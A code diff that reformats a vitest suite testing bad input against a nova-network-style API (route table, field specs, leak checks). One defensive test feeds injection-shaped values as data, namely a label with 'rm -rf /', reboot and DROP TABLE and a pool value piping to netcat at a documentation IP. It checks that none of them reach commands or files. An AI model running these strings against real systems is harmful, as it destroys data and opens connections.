@@ -8,20 +8,20 @@
  * what refuses. One API on one SQLite database for the whole file: the values are
  * refused before the backend could make a difference.
  */
-import { mkdtempSync, readFileSync, readdirSync, rmSync } from 'node:fs';
+import { mkdtempSync, readdirSync, readFileSync, rmSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { describe, expect, it } from 'vitest';
 import { DEFAULT_MAX_BODY_BYTES } from '../../src/api/body.js';
 import { createHostLayer, type Reconciler } from '../../src/host/index.js';
 import { createManager } from '../../src/managers/registry.js';
-import { badIntegers, badValues, type Bad, type Kind } from '../support/badInputs.js';
-import { freshDatabase, testConfig, type TestDatabase } from '../support/databases.js';
+import { type Bad, badIntegers, badValues, type Kind } from '../support/badInputs.js';
+import { freshDatabase, type TestDatabase, testConfig } from '../support/databases.js';
 import { snapshot } from '../support/dbState.js';
 import { RecordingExecutor } from '../support/recordingExecutor.js';
 import { RecordingHost } from '../support/recordingHost.js';
 import { useFixture, withFixture } from '../support/useFixture.js';
-import { expectFault, registeredRoutes, startApi, uuidOf, type Api, type Reply } from './harness.js';
+import { type Api, expectFault, type Reply, registeredRoutes, startApi, uuidOf } from './harness.js';
 
 /** What a valid request needs from the world: ids and addresses made in beforeAll. */
 interface World {
@@ -55,58 +55,170 @@ interface RouteCase {
 }
 
 const NETWORK_FIELDS: Record<string, FieldSpec> = {
-  'network.label': 'text', 'network.cidr': 'cidr4', 'network.cidr_v6': 'cidr6', 'network.gateway': 'ipv4',
-  'network.gateway_v6': 'ipv6', 'network.bridge': 'ifname', 'network.bridge_interface': 'ifname', 'network.dns1': 'ipv4',
-  'network.dns2': 'ipv4', 'network.dhcp_server': 'ipv4', 'network.fixed_cidr': 'cidr4', 'network.project_id': 'project',
-  'network.multi_host': 'bool', 'network.enable_dhcp': 'bool', 'network.share_address': 'bool', 'network.ipam': 'bool',
-  'network.vlan': { min: 1, max: 4094 }, 'network.vlan_start': { min: 1, max: 4094 }, 'network.vpn_start': { min: 1, max: 65535 },
-  'network.mtu': { min: 68, max: 65535 }, 'network.priority': { min: 0, max: 2 ** 31 - 1 },
-  'network.num_networks': { min: 1, max: 4094 }, 'network.network_size': { min: 4, max: 2 ** 24 },
+  'network.label': 'text',
+  'network.cidr': 'cidr4',
+  'network.cidr_v6': 'cidr6',
+  'network.gateway': 'ipv4',
+  'network.gateway_v6': 'ipv6',
+  'network.bridge': 'ifname',
+  'network.bridge_interface': 'ifname',
+  'network.dns1': 'ipv4',
+  'network.dns2': 'ipv4',
+  'network.dhcp_server': 'ipv4',
+  'network.fixed_cidr': 'cidr4',
+  'network.project_id': 'project',
+  'network.multi_host': 'bool',
+  'network.enable_dhcp': 'bool',
+  'network.share_address': 'bool',
+  'network.ipam': 'bool',
+  'network.vlan': { min: 1, max: 4094 },
+  'network.vlan_start': { min: 1, max: 4094 },
+  'network.vpn_start': { min: 1, max: 65535 },
+  'network.mtu': { min: 68, max: 65535 },
+  'network.priority': { min: 0, max: 2 ** 31 - 1 },
+  'network.num_networks': { min: 1, max: 4094 },
+  'network.network_size': { min: 4, max: 2 ** 24 },
 };
 
 const ROUTES: RouteCase[] = [
   { route: 'GET /healthz', what: 'health', fields: {} },
   { route: 'GET /metrics', what: 'metrics', fields: {} },
   { route: 'GET /v2.1/os-networks', what: 'list networks', fields: { 'url:project_id': 'project' } },
-  { route: 'POST /v2.1/os-networks', what: 'create a network', body: () => ({ network: { label: 'new', cidr: '10.9.0.0/28' } }), fields: NETWORK_FIELDS },
-  { route: 'POST /v2.1/os-networks/add', what: 'add a network to a project', body: (w) => ({ id: w.spare }), fields: { id: 'uuid', 'url:project_id': 'project' } },
+  {
+    route: 'POST /v2.1/os-networks',
+    what: 'create a network',
+    body: () => ({ network: { label: 'new', cidr: '10.9.0.0/28' } }),
+    fields: NETWORK_FIELDS,
+  },
+  {
+    route: 'POST /v2.1/os-networks/add',
+    what: 'add a network to a project',
+    body: (w) => ({ id: w.spare }),
+    fields: { id: 'uuid', 'url:project_id': 'project' },
+  },
   { route: 'GET /v2.1/os-networks/:id', what: 'show a network', params: (w) => ({ id: w.shared }), fields: { 'path:id': 'uuid' } },
   { route: 'DELETE /v2.1/os-networks/:id', what: 'delete a network', params: (w) => ({ id: w.spare }), fields: { 'path:id': 'uuid' } },
-  { route: 'POST /v2.1/os-networks/:id/action', what: 'associate a host', params: (w) => ({ id: w.shared }), body: () => ({ associate_host: 'net9' }), fields: { 'path:id': 'uuid', associate_host: 'host' } },
-  { route: 'POST /v2.1/os-networks/:id/action', what: 'disassociate', params: (w) => ({ id: w.shared }), body: () => ({ disassociate: null }), fields: { disassociate: 'null' } },
-  { route: 'GET /v2.1/os-fixed-ips/:address', what: 'show a fixed IP', params: (w) => ({ address: w.fixed }), fields: { 'path:address': 'ipv4' } },
-  { route: 'POST /v2.1/os-fixed-ips/:address/action', what: 'reserve a fixed IP', params: (w) => ({ address: w.freeFixed }), body: () => ({ reserve: null }), fields: { 'path:address': 'ipv4', reserve: 'null' } },
   {
-    route: 'POST /v2.1/os-novanet/instances', what: 'allocate an instance',
-    body: (w) => ({ instance: { uuid: uuidOf(2), project_id: 'p1', host: 'compute1', hostname: 'vm2', requested_networks: [{ uuid: w.shared, fixed_ip: w.freeFixed }] } }),
+    route: 'POST /v2.1/os-networks/:id/action',
+    what: 'associate a host',
+    params: (w) => ({ id: w.shared }),
+    body: () => ({ associate_host: 'net9' }),
+    fields: { 'path:id': 'uuid', associate_host: 'host' },
+  },
+  {
+    route: 'POST /v2.1/os-networks/:id/action',
+    what: 'disassociate',
+    params: (w) => ({ id: w.shared }),
+    body: () => ({ disassociate: null }),
+    fields: { disassociate: 'null' },
+  },
+  {
+    route: 'GET /v2.1/os-fixed-ips/:address',
+    what: 'show a fixed IP',
+    params: (w) => ({ address: w.fixed }),
+    fields: { 'path:address': 'ipv4' },
+  },
+  {
+    route: 'POST /v2.1/os-fixed-ips/:address/action',
+    what: 'reserve a fixed IP',
+    params: (w) => ({ address: w.freeFixed }),
+    body: () => ({ reserve: null }),
+    fields: { 'path:address': 'ipv4', reserve: 'null' },
+  },
+  {
+    route: 'POST /v2.1/os-novanet/instances',
+    what: 'allocate an instance',
+    body: (w) => ({
+      instance: {
+        uuid: uuidOf(2),
+        project_id: 'p1',
+        host: 'compute1',
+        hostname: 'vm2',
+        requested_networks: [{ uuid: w.shared, fixed_ip: w.freeFixed }],
+      },
+    }),
     fields: {
-      'instance.uuid': 'uuid', 'instance.project_id': 'project', 'instance.host': 'host', 'instance.hostname': 'host',
-      'instance.requested_networks.0.uuid': 'uuid', 'instance.requested_networks.0.fixed_ip': 'ipv4',
+      'instance.uuid': 'uuid',
+      'instance.project_id': 'project',
+      'instance.host': 'host',
+      'instance.hostname': 'host',
+      'instance.requested_networks.0.uuid': 'uuid',
+      'instance.requested_networks.0.fixed_ip': 'ipv4',
     },
   },
-  { route: 'GET /v2.1/os-novanet/instances/:uuid', what: 'read an instance', params: () => ({ uuid: uuidOf(1) }), fields: { 'path:uuid': 'uuid' } },
-  { route: 'DELETE /v2.1/os-novanet/instances/:uuid', what: 'deallocate an instance', params: () => ({ uuid: uuidOf(1) }), fields: { 'path:uuid': 'uuid' } },
+  {
+    route: 'GET /v2.1/os-novanet/instances/:uuid',
+    what: 'read an instance',
+    params: () => ({ uuid: uuidOf(1) }),
+    fields: { 'path:uuid': 'uuid' },
+  },
+  {
+    route: 'DELETE /v2.1/os-novanet/instances/:uuid',
+    what: 'deallocate an instance',
+    params: () => ({ uuid: uuidOf(1) }),
+    fields: { 'path:uuid': 'uuid' },
+  },
   { route: 'GET /v2.1/os-floating-ip-pools', what: 'list pools', fields: {} },
   { route: 'GET /v2.1/os-floating-ips', what: 'list floating IPs', fields: { 'url:project_id': 'project' } },
-  { route: 'GET /v2.1/os-floating-ips/:id', what: 'show a floating IP', params: (w) => ({ id: w.floating }), fields: { 'path:id': 'ipv4' } },
-  { route: 'POST /v2.1/os-floating-ips', what: 'allocate a floating IP', body: () => ({ pool: 'nova' }), fields: { pool: 'text', 'url:project_id': 'project' }, acceptsShapes: ['null', 'missing envelope key'] },
-  { route: 'DELETE /v2.1/os-floating-ips/:id', what: 'release a floating IP', params: (w) => ({ id: w.floating }), fields: { 'path:id': 'ipv4' } },
-  { route: 'GET /v2.1/os-floating-ips-bulk', what: 'list in bulk', fields: {} },
-  { route: 'GET /v2.1/os-floating-ips-bulk/:host', what: 'list a host in bulk', params: (w) => ({ host: w.boundHost }), fields: { 'path:host': 'host' } },
   {
-    route: 'POST /v2.1/os-floating-ips-bulk', what: 'create in bulk',
-    body: () => ({ floating_ips_bulk_create: { ip_range: '192.0.2.64/29', pool: 'extra', interface: 'eth3' } }),
-    fields: { 'floating_ips_bulk_create.ip_range': 'range4', 'floating_ips_bulk_create.pool': 'text', 'floating_ips_bulk_create.interface': 'ifname' },
+    route: 'GET /v2.1/os-floating-ips/:id',
+    what: 'show a floating IP',
+    params: (w) => ({ id: w.floating }),
+    fields: { 'path:id': 'ipv4' },
   },
-  { route: 'PUT /v2.1/os-floating-ips-bulk/:action', what: 'delete in bulk', params: () => ({ action: 'delete' }), body: () => ({ ip_range: '198.51.100.0/30' }), fields: { 'path:action': 'host', ip_range: 'range4' } },
+  {
+    route: 'POST /v2.1/os-floating-ips',
+    what: 'allocate a floating IP',
+    body: () => ({ pool: 'nova' }),
+    fields: { pool: 'text', 'url:project_id': 'project' },
+    acceptsShapes: ['null', 'missing envelope key'],
+  },
+  {
+    route: 'DELETE /v2.1/os-floating-ips/:id',
+    what: 'release a floating IP',
+    params: (w) => ({ id: w.floating }),
+    fields: { 'path:id': 'ipv4' },
+  },
+  { route: 'GET /v2.1/os-floating-ips-bulk', what: 'list in bulk', fields: {} },
+  {
+    route: 'GET /v2.1/os-floating-ips-bulk/:host',
+    what: 'list a host in bulk',
+    params: (w) => ({ host: w.boundHost }),
+    fields: { 'path:host': 'host' },
+  },
+  {
+    route: 'POST /v2.1/os-floating-ips-bulk',
+    what: 'create in bulk',
+    body: () => ({ floating_ips_bulk_create: { ip_range: '192.0.2.64/29', pool: 'extra', interface: 'eth3' } }),
+    fields: {
+      'floating_ips_bulk_create.ip_range': 'range4',
+      'floating_ips_bulk_create.pool': 'text',
+      'floating_ips_bulk_create.interface': 'ifname',
+    },
+  },
+  {
+    route: 'PUT /v2.1/os-floating-ips-bulk/:action',
+    what: 'delete in bulk',
+    params: () => ({ action: 'delete' }),
+    body: () => ({ ip_range: '198.51.100.0/30' }),
+    fields: { 'path:action': 'host', ip_range: 'range4' },
+  },
   { route: 'GET /v2.1/servers', what: 'list servers', fields: {} },
   { route: 'GET /v2.1/servers/:id', what: 'show a server', params: () => ({ id: uuidOf(1) }), fields: { 'path:id': 'uuid' } },
   {
-    route: 'POST /v2.1/servers/:id/action', what: 'add a floating IP', params: () => ({ id: uuidOf(1) }),
+    route: 'POST /v2.1/servers/:id/action',
+    what: 'add a floating IP',
+    params: () => ({ id: uuidOf(1) }),
     body: (w) => ({ addFloatingIp: { address: w.floating, fixed_address: w.fixed } }),
     fields: { 'path:id': 'uuid', 'addFloatingIp.address': 'ipv4', 'addFloatingIp.fixed_address': 'ipv4' },
   },
-  { route: 'POST /v2.1/servers/:id/action', what: 'remove a floating IP', params: () => ({ id: uuidOf(1) }), body: (w) => ({ removeFloatingIp: { address: w.bound } }), fields: { 'removeFloatingIp.address': 'ipv4' } },
+  {
+    route: 'POST /v2.1/servers/:id/action',
+    what: 'remove a floating IP',
+    params: () => ({ id: uuidOf(1) }),
+    body: (w) => ({ removeFloatingIp: { address: w.bound } }),
+    fields: { 'removeFloatingIp.address': 'ipv4' },
+  },
 ];
 
 /** A request to send: method, URL path, and a JSON body or raw bytes. */
@@ -191,7 +303,12 @@ function wrongShapes(valid: unknown, maxBodyBytes: number): { name: string; requ
 }
 
 /** Stack frames, file paths and driver internals that must never reach a client. */
-const LEAKS = [/\n\s+at /, /\bat \S+ \(/, /\/work\/|\/src\/|node_modules|\.ts:\d+|\.js:\d+/, /SQLITE_|ER_[A-Z_]+|knex|TypeError|ReferenceError/];
+const LEAKS = [
+  /\n\s+at /,
+  /\bat \S+ \(/,
+  /\/work\/|\/src\/|node_modules|\.ts:\d+|\.js:\d+/,
+  /SQLITE_|ER_[A-Z_]+|knex|TypeError|ReferenceError/,
+];
 
 /** One API on one fresh SQLite database, with the world of a valid request of every row. */
 interface Fixture {
@@ -216,14 +333,34 @@ async function fixture(): Promise<Fixture> {
   // reconciler, whose drivers run their commands through the recording executor.
   let reconciler: Reconciler | undefined;
   const manager = createManager({
-    db: database.db, config, log: () => undefined,
-    host: { apply: async (changes) => { await host.apply(changes); await reconciler!.apply(changes); } },
+    db: database.db,
+    config,
+    log: () => undefined,
+    host: {
+      apply: async (changes) => {
+        await host.apply(changes);
+        await reconciler!.apply(changes);
+      },
+    },
   });
-  reconciler = createHostLayer({ db: database.db, config, capabilities: manager.capabilities, configFile: undefined, log: () => undefined, executor });
+  reconciler = createHostLayer({
+    db: database.db,
+    config,
+    capabilities: manager.capabilities,
+    configFile: undefined,
+    log: () => undefined,
+    executor,
+  });
   const api = await startApi(database.db, { manager });
   const [shared] = await manager.networks.create({ label: 'shared', fixedRangeV4: '10.0.0.0/28', networkSize: 16 });
   const [spare] = await manager.networks.create({ label: 'spare', fixedRangeV4: '10.2.0.0/28', networkSize: 16 });
-  const info = await manager.allocation.allocate({ instanceUuid: uuidOf(1), projectId: 'p1', host: 'compute1', hostname: 'vm1', requestedNetworks: [{ networkUuid: shared!.uuid }] });
+  const info = await manager.allocation.allocate({
+    instanceUuid: uuidOf(1),
+    projectId: 'p1',
+    host: 'compute1',
+    hostname: 'vm1',
+    requestedNetworks: [{ networkUuid: shared!.uuid }],
+  });
   await manager.floating.createRange('203.0.113.0/29');
   await manager.floating.createRange('198.51.100.0/30', 'spare-pool');
   const floating = await manager.floating.allocate('p1');
@@ -232,15 +369,27 @@ async function fixture(): Promise<Fixture> {
   const boundRow = (await manager.floating.list()).find((row) => row.address === bound.address)!;
   const fixed = info.network_info[0]!.network.subnets[0]!.ips[0]!.address;
   const w: World = {
-    shared: shared!.uuid, spare: spare!.uuid, fixed, freeFixed: fixed === '10.0.0.9' ? '10.0.0.10' : '10.0.0.9',
-    floating: floating.address, bound: bound.address, boundHost: boundRow.host!,
+    shared: shared!.uuid,
+    spare: spare!.uuid,
+    fixed,
+    freeFixed: fixed === '10.0.0.9' ? '10.0.0.10' : '10.0.0.9',
+    floating: floating.address,
+    bound: bound.address,
+    boundHost: boundRow.host!,
   };
   const token = await api.token('ops', 'admin');
   // The world was built through the host layer; from here on the tests watch it.
   host.clear();
   executor.clear();
   return {
-    database, api, w, token, host, executor, reconciler, stateDir,
+    database,
+    api,
+    w,
+    token,
+    host,
+    executor,
+    reconciler,
+    stateDir,
     async close() {
       await api.close();
       await database.close();
@@ -265,7 +414,8 @@ const FIELD_CASES = ROUTES.flatMap((row) => casesOf(row).map((entry) => ({ ...en
 const SHAPE_CASES = ROUTES.filter((row) => row.body !== undefined).flatMap((row) =>
   wrongShapes(row.body!(PLACEHOLDER), 1)
     .filter((shape) => !row.acceptsShapes?.includes(shape.name))
-    .map((shape) => ({ title: `${row.route} (${row.what}): body ${shape.name}`, row, shape: shape.name })));
+    .map((shape) => ({ title: `${row.route} (${row.what}): body ${shape.name}`, row, shape: shape.name })),
+);
 
 describe('bad input to every API route', () => {
   const current = useFixture(fixture);
@@ -278,7 +428,10 @@ describe('bad input to every API route', () => {
     f.host.clear();
     f.executor.clear();
     const reply = await send(f, request);
-    expect(reply.status, `${request.method} ${request.path.slice(0, 200)} answered ${reply.status}: ${reply.text.slice(0, 300)}`).toBeGreaterThanOrEqual(400);
+    expect(
+      reply.status,
+      `${request.method} ${request.path.slice(0, 200)} answered ${reply.status}: ${reply.text.slice(0, 300)}`,
+    ).toBeGreaterThanOrEqual(400);
     expect(reply.status, reply.text.slice(0, 300)).toBeLessThan(500);
     const message = expectFault(reply, reply.status);
     for (const leak of LEAKS) expect(message, 'no stack trace, path or driver detail').not.toMatch(leak);
@@ -309,27 +462,34 @@ describe('bad input to every API route', () => {
  * the host layer writes, even through a full reconcile.
  */
 describe('injection-shaped free text', () => {
-  it('is stored as given and reaches no command line', () => withFixture(fixture, async (f) => {
-    const label = ';rm -rf / $(reboot) `halt` "; DROP TABLE networks; --';
-    const pool = "' OR 1=1 -- | nc 198.51.100.1 9";
-    const created = await send(f, { method: 'POST', path: '/v2.1/os-networks', body: { network: { label, cidr: '10.9.0.0/28' } } });
-    expect(created.status, created.text).toBe(200);
-    const bulk = await send(f, { method: 'POST', path: '/v2.1/os-floating-ips-bulk', body: { floating_ips_bulk_create: { ip_range: '192.0.2.64/29', pool } } });
-    expect(bulk.status, bulk.text).toBe(200);
-    await f.reconciler.reconcileAll();
-    const shown = (await send(f, { method: 'GET', path: `/v2.1/os-networks/${(created.json as { network: { id: string } }).network.id}` })).json as { network: { label: string } };
-    expect(shown.network.label).toBe(label);
-    const words = f.executor.commands.flatMap((spec) => [...spec.argv, spec.input ?? '']);
-    expect(words.length, 'the reconcile ran commands').toBeGreaterThan(0);
-    for (const word of words) {
-      for (const text of [label, pool, 'reboot', 'DROP TABLE', 'OR 1=1']) expect(word).not.toContain(text);
-    }
-    const written = readdirSync(f.stateDir, { recursive: true, withFileTypes: true }).filter((entry) => entry.isFile());
-    for (const file of written) {
-      const text = readFileSync(join(file.parentPath, file.name), 'utf8');
-      for (const part of ['reboot', 'DROP TABLE', 'OR 1=1']) expect(text, file.name).not.toContain(part);
-    }
-  }));
+  it('is stored as given and reaches no command line', () =>
+    withFixture(fixture, async (f) => {
+      const label = ';rm -rf / $(reboot) `halt` "; DROP TABLE networks; --';
+      const pool = "' OR 1=1 -- | nc 198.51.100.1 9";
+      const created = await send(f, { method: 'POST', path: '/v2.1/os-networks', body: { network: { label, cidr: '10.9.0.0/28' } } });
+      expect(created.status, created.text).toBe(200);
+      const bulk = await send(f, {
+        method: 'POST',
+        path: '/v2.1/os-floating-ips-bulk',
+        body: { floating_ips_bulk_create: { ip_range: '192.0.2.64/29', pool } },
+      });
+      expect(bulk.status, bulk.text).toBe(200);
+      await f.reconciler.reconcileAll();
+      const shown = (
+        await send(f, { method: 'GET', path: `/v2.1/os-networks/${(created.json as { network: { id: string } }).network.id}` })
+      ).json as { network: { label: string } };
+      expect(shown.network.label).toBe(label);
+      const words = f.executor.commands.flatMap((spec) => [...spec.argv, spec.input ?? '']);
+      expect(words.length, 'the reconcile ran commands').toBeGreaterThan(0);
+      for (const word of words) {
+        for (const text of [label, pool, 'reboot', 'DROP TABLE', 'OR 1=1']) expect(word).not.toContain(text);
+      }
+      const written = readdirSync(f.stateDir, { recursive: true, withFileTypes: true }).filter((entry) => entry.isFile());
+      for (const file of written) {
+        const text = readFileSync(join(file.parentPath, file.name), 'utf8');
+        for (const part of ['reboot', 'DROP TABLE', 'OR 1=1']) expect(text, file.name).not.toContain(part);
+      }
+    }));
 });
 
 /**
@@ -338,9 +498,11 @@ describe('injection-shaped free text', () => {
  * of a request that was wrong anyway.
  */
 describe('the valid request of every row', () => {
-  it.each(ROUTES.map((row) => ({ title: `${row.route} (${row.what})`, row })))('$title succeeds', ({ row }) => withFixture(fixture, async (f) => {
-    const reply = await send(f, baseRequest(row, f.w));
-    expect(reply.status, reply.text.slice(0, 300)).toBeGreaterThanOrEqual(200);
-    expect(reply.status, reply.text.slice(0, 300)).toBeLessThan(300);
-  }));
+  it.each(ROUTES.map((row) => ({ title: `${row.route} (${row.what})`, row })))('$title succeeds', ({ row }) =>
+    withFixture(fixture, async (f) => {
+      const reply = await send(f, baseRequest(row, f.w));
+      expect(reply.status, reply.text.slice(0, 300)).toBeGreaterThanOrEqual(200);
+      expect(reply.status, reply.text.slice(0, 300)).toBeLessThan(300);
+    }),
+  );
 });
